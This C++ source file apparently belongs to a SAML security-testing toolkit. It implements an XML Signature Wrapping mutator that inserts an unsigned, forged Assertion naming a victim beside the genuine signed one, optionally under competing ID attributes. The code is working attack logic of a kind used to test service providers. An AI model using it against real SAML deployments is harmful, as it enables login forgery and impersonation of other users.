// SPDX-License-Identifier: Apache-2.0
// xsw.evil_copy_added — the signed Assertion stays intact and a forged, signature-less copy with
// the victim's identity is added beside it (SAML Raider XSW3 and XSW7; XSW-3, XSW-7, XSW-ID-DUP,
// XSW-ID-XMLID): an SP that reads "the first Assertion", or resolves the Reference by a duplicated
// or competing ID attribute (xml:id, Id, id, wsu:Id), consumes the copy. saml-profiles §4.1.4.2
// (one assertion used); saml-core §5.4.2 and xmldsig-core §4.3.3.3 (IDs resolve to one element).
#include "mutators/xsw/xsw.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {
namespace {

constexpr std::string_view k_ns_wsu =
    "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd";

// The copy carries its ID in `attribute` instead of `ID`, with the original's value.
void use_competing_id(xmlNode* copy, const std::string& attribute, const std::string& value) {
  core::remove_attribute(copy, "ID");
  if (attribute == "xml:id") {
    core::set_attribute_ns(copy, core::names::ns_xml, "xml", "id", value);
  } else if (attribute == "wsu:Id") {
    core::set_attribute_ns(copy, k_ns_wsu, "wsu", "Id", value);
  } else {
    core::set_attribute(copy, attribute, value);
  }
}

}  // namespace

// Params: place (before | after | extensions | extensions_unqualified; default before), ids
// (fresh | root_only | shared; default fresh), id (the copy's ID when not shared), id_attribute
// (ID | xml:id | Id | id | wsu:Id: which attribute carries the copy's ID; anything but ID
// carries the original's value), victim.
core::Result<void> xsw_evil_copy_added(Target& target) {
  auto place = xsw::choice_param(target, "place", "before|after|extensions|extensions_unqualified", "before");
  auto id_attribute = place ? xsw::choice_param(target, "id_attribute", "ID|xml:id|Id|id|wsu:Id", "ID") : place;
  if (!id_attribute) {
    return core::fail(id_attribute.error());
  }
  auto ids = xsw::ids_param(target, xsw::Ids::fresh);
  auto id = string_param(target, "id");
  auto victim = xsw::victim(target);
  if (!ids || !id || !victim) {
    return core::fail(!ids ? ids.error() : !id ? id.error() : victim.error());
  }
  xmlNode* original = xsw::first_assertion(target);
  if (original == nullptr || xsw::signature_of(original) == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "the Assertion carries no Signature");
  }
  xmlNode* copy = xsw::copy_without_signature(original);
  xsw::write_victim(copy, *victim);
  if (*id_attribute == "ID") {
    xsw::rename_ids(copy, *ids, *id);
  } else {
    use_competing_id(copy, *id_attribute, core::attribute(original, "ID").value_or(""));
  }
  std::string where = *place == "before" ? "sibling_before" : *place == "after" ? "sibling_after" : *place;
  return xsw::hide(original, copy, where, {});
}

}  // namespace samlt::idp::mutators
